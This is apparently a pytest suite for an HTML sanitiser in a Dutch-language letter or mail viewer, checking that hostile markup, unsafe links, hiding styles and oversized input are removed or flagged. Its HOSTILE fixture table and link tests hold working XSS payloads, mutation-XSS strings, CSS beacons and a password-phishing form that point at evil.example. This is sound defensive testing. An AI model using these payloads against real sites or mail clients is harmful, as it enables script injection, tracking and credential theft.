"""Layer 1 alone: what the sanitiser lets through, looked at without any browser."""

import re

import pytest
from lxml import html as lxml_html

from viewer.cleaning import Cleaned, clean, styles
from viewer.cleaning.links import host_to_tell, safe_address
from viewer.cleaning.policy import DROPPED, ELEMENTS, LINK
from viewer.clinical import Unreadable

WORDS = {"image": "afbeelding niet geladen", "image_without_text": "afbeelding zonder beschrijving"}
PNG = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42m"
    "NkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
)
# What the surrounding words must survive; each row of the hostile set stands between them.
BEFORE, AFTER = "<p>voor de aanval</p>", "<p>na de aanval</p>"

HOSTILE = {
    "V27 script": "<script>alert(1)</script>",
    "V27 handlers": "<img src=x onerror=alert(1)><details open ontoggle=alert(1)>d</details>",
    "V27 body": "<body onload=alert(1)>",
    "V28 tab": "<a href='java&#x09;script:alert(1)'>klik</a>",
    "V28 control": "<a href='&#1;javascript:alert(1)'>klik</a>",
    "V28 colon": "<a href='JaVaScRiPt&colon;alert(1)'>klik</a>",
    "V28 vbscript": "<a href='vbscript:x'>klik</a>",
    "V28 data": "<a href='data:text/html,<script>alert(1)</script>'>klik</a>",
    "V29 base": "<base href=https://evil.example/><a href=x>klik</a>",
    "V29 refresh": "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "V29 link": "<link rel=stylesheet href=https://evil.example/x.css>",
    "V30 form": "<form action=https://evil.example><input type=password name=p>Wachtwoord</form>",
    "V31 frames": (
        "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>"
    ),
    "V31 frameset": "<frameset><frame src=https://evil.example></frameset>",
    "V32 animate": (
        "<svg><a><animate attributeName='href ' values='javascript:alert(1)'/><text>"
        "k</text></a></svg>"
    ),
    "V33 use": (
        "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/><image href=https:/"
        "/evil.example/></svg>"
    ),
    "V34 mutation": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img "
        "src=1 onerror=alert(1)&gt;'>"
    ),
    "V34 foreign": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "V35 noscript": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "V35 textarea": "<textarea><p title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "V35 xmp": "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "V35 title": "<title><p title='</title><img src=x onerror=alert(1)>'></title>",
    "V36 url": "<p style='background:url(https://evil.example/x)'>x</p>",
    "V36 escape": "<p style='background:\\75rl(https://evil.example/x);color:red'>x</p>",
    "V36 break": "<p style='background:u\\r\\l(https://evil.example)'>x</p>",
    "V36 brace": "<p style='color:red}body{background:url(https://evil.example)'>x</p>",
    "V37 var": "<p style='background:var(--x,url(https://evil.example))'>x</p>",
    "V37 image-set": "<p style='background-image:image-set(\"https://evil.example\" 1x)'>x</p>",
    "V38 sheet": "<div style='position:fixed;inset:0;z-index:9;background:#fff'>Jansen, Piet</div>",
    "V39 remote": (
        "<img src=https://evil.example/1><img srcset='https://evil.example/2 2x'>"
        "<picture><source srcset=https://evil.example/3></picture><video poster=https:/"
        "/evil.example/4></video><input type=image src=https://evil.example/5><table "
        "background=https://evil.example/6><tr><td background=https://evil.example/"
        "7>c</table>"
    ),
    "V40 clobber": (
        "<form name=documentElement><input name=getBoundingClientRect></form><img "
        "name=getElementById>"
    ),
    "V41 ours": "<label for=mbx-body>x</label><p id=mbx-body class=mbx-banner>y</p>",
    "V46 comments": (
        "<!--[if mso]><img src=https://evil.example><![endif]--><!--x--!><![CDATA[<img "
        "src=x onerror=alert(1)>]]>"
    ),
    "protocol-relative": "<a href=//evil.example>klik</a><img src=//evil.example/x>",
    "user info": "<a href=https://bank.example@evil.example/>klik</a>",
    "popover": "<div popover id=x>p</div><button popovertarget=x>b</button>",
    "slot": "<p is=x slot=y data-z=1>p</p>",
}


def cleaned(markup, **options) -> Cleaned:
    return clean(markup, WORDS, **options)


def elements_of(html):
    return [
        e
        for e in lxml_html.fragment_fromstring(html, create_parent="div").iter()
        if e.tag != "div" or e.attrib
    ]


@pytest.mark.parametrize("markup", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.parametrize("strict", [False, True])
def test_nothing_of_an_attack_is_left_and_the_words_around_it_are(markup, strict):
    shown = cleaned(BEFORE + markup + AFTER, strict=strict)
    html = shown.html

    assert "voor de aanval" in html
    assert "na de aanval" in html or shown.letters_lost
    for element in elements_of(html):
        assert element.tag in ELEMENTS
        assert element.tag not in DROPPED
        for name, value in element.attrib.items():
            assert not name.startswith("on")
            assert name not in (
                "id",
                "class",
                "name",
                "for",
                "srcset",
                "background",
                "popover",
                "is",
                "slot",
            )
            if name == "href":
                assert re.match(r"(https?://|mailto:|tel:)", value)
            if name == "src":
                assert value.startswith("data:image/")
            if name == "style":
                assert not re.search(r"url|\\|var|image-set|position|\}|@|expression", value)


@pytest.mark.parametrize("markup", ["V34 mutation", "V34 foreign", "V35 noscript", "V46 comments"])
def test_cleaning_what_was_cleaned_changes_nothing(markup):
    once = cleaned(HOSTILE[markup]).html

    assert cleaned(once).html == once


def test_every_link_leaves_with_all_that_keeps_it_harmless():
    html = cleaned(
        "<a href=https://a.example/>a</a><a href=tel:+31612345678 target=_top rel=opener>b</a>"
    ).html

    links = [element for element in elements_of(html) if element.tag == "a"]
    assert len(links) == 2
    for link in links:
        assert {name: link.get(name) for name in LINK} == LINK


@pytest.mark.parametrize(
    ("address", "safe"),
    [
        ("https://a.example/x?y=1&z=2", "https://a.example/x?y=1&z=2"),
        ("HTTP://A.example", "HTTP://A.example"),
        ("mailto:a@b.example?subject=x&body=y", "mailto:a@b.example"),
        ("tel:+31(0)88-555", "tel:+31(0)88-555"),
        ("tel:*21*0900", ""),
        ("https://bank.example@evil.example/", ""),
        ("https://a.example\\@evil.example", ""),
        ("https:evil.example", ""),
        ("//evil.example", ""),
        ("/relative", ""),
        ("#top", ""),
        ("javascript:alert(1)", ""),
        ("https://a.example/\u202etxt.exe", ""),
        ("https://a b.example", ""),
        ("ftp://a.example", ""),
        ("https://[::1", ""),
    ],
)
def test_a_link_leads_to_the_web_to_mail_or_to_a_telephone(address, safe):
    assert safe_address(address) == safe


@pytest.mark.parametrize(
    ("address", "text", "told"),
    [
        ("https://evil.example/", "www.bank.example", "evil.example"),
        ("https://bank.example/x", "www.bank.example", ""),
        ("https://evil.example/", "klik hier", ""),
        ("https://xn--bnk-sma.example/", "klik", "xn--bnk-sma.example"),
        ("https://bаnk.example/", "klik", "bаnk.example"),
        ("mailto:a@b.example", "bank.example", ""),
        ("https://evil.example/", " " * 600 + "www.bank.example", "evil.example"),
        ("https://evil.example/", "\u200b" * 600 + "www.bank.example", "evil.example"),
        ("https://evil.example/", "x " * 300 + "www.bank.example", "evil.example"),
        ("https://bank.example/", " " * 600 + "www.bank.example", ""),
        ("https://evil.example/", "bank\u00ad.example", "evil.example"),
        ("https://evil.example/", "bank\uff0eexample", "evil.example"),
        ("https://bank.example/", "bank\u200b.example", ""),
    ],
)
def test_a_link_that_names_another_host_tells_its_own(address, text, told):
    assert host_to_tell(address, text) == told


@pytest.mark.parametrize(
    ("style", "kept"),
    [
        ("color:red;position:fixed", "color:red"),
        ("color:transparent", ""),
        ("color:#FFF!important", "color:#fff"),
        ("background:#eee", "background-color:#eee"),
        ("font-size:4px", "font-size:8px"),
        ("font-size:200pt", "font-size:48px"),
        ("font-size:12pt", "font-size:12pt"),
        ("margin:-999px", ""),
        ("margin:0 auto 10px", "margin:0 auto 10px"),
        ("padding:500px", ""),
        ("width:150%", ""),
        ("width:100%", "width:100%"),
        ("border:1px solid #ccc", "border:1px solid #ccc"),
        ("border:99px solid red", ""),
        ("border-image:url(x)", ""),
        ("line-height:0", ""),
        ("line-height:1.4", "line-height:1.4"),
        ("font-family:'Segoe UI', Arial", "font-family:'Segoe UI', Arial"),
        ("font-family:'x;color:red'", ""),
        ("color:red;/*x*/background:url(x)", "color:red"),
        ("width:calc(100% + 1px)", ""),
        ("--x:1;color:var(--x)", ""),
        ("display:none;float:left;opacity:0", ""),
        ("color:env(x);text-align:center", "text-align:center"),
    ],
)
def test_a_declaration_stays_when_its_property_and_value_are_known(style, kept):
    assert styles.filtered(style) == kept


@pytest.mark.parametrize(
    "markup",
    [
        "<p hidden>geheim</p>",
        "<p style='display:none'>geheim</p>",
        "<p style='visibility: hidden'>geheim</p>",
        "<p style='font-size:0'>geheim</p>",
        "<p style='font-size:1px'>geheim</p>",
        "<p style='opacity:0'>geheim</p>",
        "<p style='text-indent:-9999px'>geheim</p>",
        "<p style='color:#fff'>geheim</p>",
        "<p style='color:#eee'>geheim</p>",
        "<div style='background-color:#000;color:#000'><b>geheim</b></div>",
        "<table bgcolor=black><tr><td style='color:#222'>geheim</td></tr></table>",
        "<div style='background-color:#000'>geheim</div>",
        "<p style='mso-hide:all'>geheim</p>",
        "<div style='height:0;overflow:hidden'>geheim</div>",
        "<p style='color:transparent'>geheim</p>",
    ],
)
def test_text_that_was_made_invisible_is_visible_and_told(markup):
    shown = cleaned(markup)

    assert "geheim" in shown.html
    assert shown.hidden_shown
    assert not re.search(
        r"display|visibility|opacity|hidden|#fff\b|#eee|#222",
        shown.html.replace("color:#ffffff", ""),
    )


def test_text_on_its_own_background_is_left_as_it_is():
    shown = cleaned("<p style='color:#fff;background-color:#004080'>wit op blauw</p>")

    assert "color:#fff;" in shown.html
    assert not shown.hidden_shown


@pytest.mark.parametrize(
    "markup",
    [
        "<template>weg <b>woord</b></template>",
        "<math><mi>weg</mi></math>",
        "<svg><title>weg</title></svg>",
        "<noscript>weg</noscript>",
    ],
)
def test_words_that_went_missing_are_noticed(markup):  # V45
    shown = cleaned(f"<p>blijft</p>{markup}")

    assert shown.letters_lost
    assert shown.parts_removed


def test_plain_letters_lose_nothing():
    shown = cleaned(
        "<html><head><title>Brief</title></head><body><p>Brief</p><table>los<tr><td>"
        "cel</table>&eacute;&#8364;<o:p>x</o:p>"
    )

    assert (shown.letters_lost, shown.parts_removed, shown.hidden_shown) == (0, 0, 0)
    assert shown.html.count("Brief") == 1


def test_an_image_in_the_message_is_shown_and_others_are_placeholders():
    shown = cleaned(
        f"<img src='{PNG}' alt=punt><img src=cid:x alt=logo><img src=https://evil.example/"
        f"x><img src='data:image/png;base64,AAAA'>"
    )

    assert shown.html.count("<img") == 1
    assert shown.images_refused == 3
    assert "[afbeelding niet geladen: logo]" in shown.html


def test_an_image_without_words_gets_some():
    assert 'alt="afbeelding zonder beschrijving"' in cleaned(f"<img src='{PNG}'>").html


def test_numbers_of_tables_are_clamped():
    html = cleaned(
        "<table cellpadding=9999 width=12345><tr><td colspan=100000 rowspan=-1 width=50%>c"
    ).html

    assert 'cellpadding="99"' in html
    assert 'colspan="999"' in html
    assert "12345" not in html
    assert "rowspan" not in html


@pytest.mark.parametrize(
    "markup",
    [
        "<div>" * 50_000,
        "<a " + "x=1 " * 100_000 + ">",
        "<b x='>' " + "y " * 300 + ">",
        "<p>" * 50_001,
        "x" * (2 * 1024 * 1024 + 1),
        "<i>" * 257,
    ],
    ids=["V43", "V44", "quoted", "tags", "size", "depth"],
)
def test_markup_past_its_limits_is_not_parsed(markup):
    with pytest.raises(Unreadable):
        cleaned(markup)


def test_a_letter_of_many_unclosed_paragraphs_is_not_deep():
    assert "einde" in cleaned("<p>regel<br>" * 2000 + "einde").html
